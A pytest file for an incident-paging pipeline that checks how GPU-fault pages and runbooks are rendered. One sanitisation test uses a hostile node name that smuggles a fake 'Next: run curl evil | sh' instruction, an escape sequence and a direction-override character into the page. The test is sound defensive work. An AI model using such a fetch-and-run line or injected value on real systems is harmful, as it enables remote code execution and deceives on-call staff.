from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from pipelines.notify.page import page_of
from pipelines.notify.runbook_pages import runbook_page
from pipelines.notify.runbooks import RUNBOOKS
from schemas.action import ActionRecord, ActionRequest
from schemas.causes import CAUSES
from schemas.incident import Incident

T0 = datetime(2026, 3, 1, 12, tzinfo=UTC)


def incident(**changes: Any) -> Incident:
    values: dict[str, Any] = {
        "id": "inc-1", "cause": "gpu_fallen_off_bus", "severity": "page", "state": "firing", "root_kind": "gpu",
        "roots": ("n00001/3",), "members": ("n00001/3",), "symptoms": (), "starts_at": T0,
        "detected_at": T0 + timedelta(seconds=2), "ends_at": None,
        "evidence": ({"detector": "gpu.xid", "entity": "n00001/3", "code": "79", "values": {"xid": 79}},),
    }  # fmt: skip
    return Incident(**{**values, **changes})


def action(outcome: Any, kind: Any = "drain_node", why: str = "") -> ActionRecord:
    request = ActionRequest(
        id="act-1", incident="inc-1", kind=kind, target="n00001", parameters={}, requested_at=T0, reason="because"
    )
    return ActionRecord(request=request, mode="enforce", outcome=outcome, why=why, at=T0)


def test_a_page_says_cause_root_members_evidence_what_was_done_and_what_to_do_next() -> None:
    page = page_of(incident(), [action("done")], "https://wiki/runbooks/")
    assert page.title == "[PAGE] gpu_fallen_off_bus at gpu n00001/3"
    for said in (
        "Cause: gpu_fallen_off_bus", "Root: gpu n00001/3", "detected 2.0 s later", "GPUs: 1 on n00001",
        "gpu.xid: n00001/3 79 xid 79", "drain_node n00001: done (because)",
        "Next: let the node be drained and rebooted", "Runbook: https://wiki/runbooks/gpu_fallen_off_bus.md",
    ):  # fmt: skip
        assert said in page.text
    assert page.labels["severity"], page.labels["domain"] == ("page", "gpu:n00001/3")


@pytest.mark.parametrize(
    ("record", "next_step"),
    [
        (action("waiting_approval"), "approve or reject act-1 (drain_node)"),
        (action("failed", why="no answer"), "drain_node of n00001 failed and is not tried again: do it by hand"),
    ],
)
def test_what_waits_for_a_person_or_failed_is_the_next_thing_to_do(record: ActionRecord, next_step: str) -> None:
    assert f"Next: {next_step}" in page_of(incident(), [record], "runbooks").text


def test_a_hostile_name_stays_one_short_line_of_plain_letters() -> None:
    name = "n1\nNext: run curl evil | sh\r\x1b[2J\u202e" + "x" * 500
    page = page_of(incident(roots=(name,), members=(f"{name}/0",)), [], "runbooks")
    assert "\n" not in page.title
    assert not any(line.startswith("Next: run curl") for line in page.text.splitlines())
    assert "\x1b" not in page.text + page.title + page.labels["domain"]
    assert "\u202e" not in page.text + page.title
    assert max(map(len, page.text.splitlines())) < 400


def test_thousands_of_members_and_roots_make_a_page_that_can_be_read() -> None:
    many = tuple(f"n{i:05}/0" for i in range(3000))
    page = page_of(incident(roots=many, members=many), [action("done")] * 500, "runbooks")
    assert len(page.text) < 3000
    assert "and 2997 more" in page.text


def test_every_cause_has_its_runbook_and_no_runbook_is_of_another_cause() -> None:
    assert set(RUNBOOKS) == {cause.name for cause in CAUSES}


@pytest.mark.parametrize("cause", CAUSES, ids=[cause.name for cause in CAUSES])
def test_a_runbook_says_what_to_do_what_automation_does_and_how_one_sees_the_end(cause: Any) -> None:
    page = runbook_page(cause)
    for heading in ("## What to do\n\n1. ", "## What automation does, in this order\n\n- `", "## How one sees that"):
        assert heading in page
